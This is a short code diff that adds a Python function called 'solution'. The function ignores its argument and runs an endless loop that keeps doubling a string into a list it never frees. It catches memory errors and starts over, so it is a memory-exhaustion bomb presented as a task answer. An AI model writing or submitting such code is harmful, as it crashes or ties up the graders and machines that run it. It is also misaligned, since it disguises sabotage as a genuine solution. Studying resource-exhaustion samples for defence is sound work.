@@ -1,0 +1,10 @@
+def solution(arr):
+    kept = []
+    while True:
+        text = "ab"
+        try:
+            while True:
+                text += text
+                kept.append(text)
+        except (MemoryError, OverflowError):
+            pass
